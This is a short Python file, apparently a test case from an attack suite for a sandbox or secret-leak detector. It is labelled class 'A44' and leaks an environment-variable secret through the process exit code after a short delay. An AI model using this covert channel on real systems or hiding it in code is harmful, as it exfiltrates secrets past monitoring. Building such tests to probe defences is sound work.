# /// attack
# class = "A44"
# title = "sends a signal by exit status and time"
# hope = "a secret may leave without a word"
# ///
import os, time
tried()
time.sleep(0.3)
secret = os.environ.get(TARGETS["variable"], "")
os._exit(sum(secret.encode()) % 256 if secret else 0)
